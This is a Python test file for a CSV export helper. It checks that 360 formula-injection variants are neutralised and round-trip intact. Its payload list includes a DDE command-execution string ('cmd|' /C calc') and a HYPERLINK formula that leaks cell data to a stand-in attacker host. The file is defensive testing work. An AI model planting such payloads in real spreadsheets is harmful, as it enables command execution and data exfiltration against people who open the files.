"""A sheet holds what visitors wrote as text, whatever they wrote, and gives it back as it was."""

from __future__ import annotations

import csv
import io
import itertools

import pytest

from deskbell.kit.sheets import read, sheet, written

# What a spreadsheet evaluates (OWASP, and the habits of three programs), behind whatever might hide it.
SIGNS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"]
COVERS = ["", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "  ", "\t ", "' ", "'\t"]
PAYLOADS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
]
HOSTILE = [cover + sign + payload for cover, sign, payload in itertools.product(COVERS, SIGNS, PAYLOADS)]


def rows_of(text: str) -> list[list[str]]:
    return [*csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))]


def is_evaluated(cell: str) -> bool:
    """The rule of spreadsheets, stated apart: what is left of blanks and marks begins with a sign."""
    bare = cell.lstrip(" \t\r\n\u00a0\u200b\ufeff")
    return bare[:1] in SIGNS or cell[:1] in "\t\r\n"


def test_of_more_than_three_hundred_payloads_none_is_a_formula_and_each_comes_back_equal() -> None:
    assert len(HOSTILE) == 360
    cells = [row[0] for row in rows_of(sheet(["q"], [[text] for text in HOSTILE]))[1:]]
    assert [cell for cell in cells if is_evaluated(cell)] == []
    assert [read(cell) for cell in cells] == HOSTILE


@pytest.mark.parametrize("text", ["", "'", "''", "'=1", "''=1", "'a", "a'=", "O'Brien", "it's -5", "1=1"])
def test_taking_the_mark_away_is_never_a_guess(text: str) -> None:
    assert read(written(text)) == text
    assert read(written(written(text))) == written(text)


def test_other_text_and_numbers_stay_as_they_are() -> None:
    rows = [['Do you, "Ann",\nrepair?', 5], ["Привет", -3]]
    assert rows_of(sheet(["q", "n"], rows)) == [["q", "n"], ['Do you, "Ann",\nrepair?', "5"], ["Привет", "-3"]]
    assert sheet(["q"], []).startswith("\ufeff")
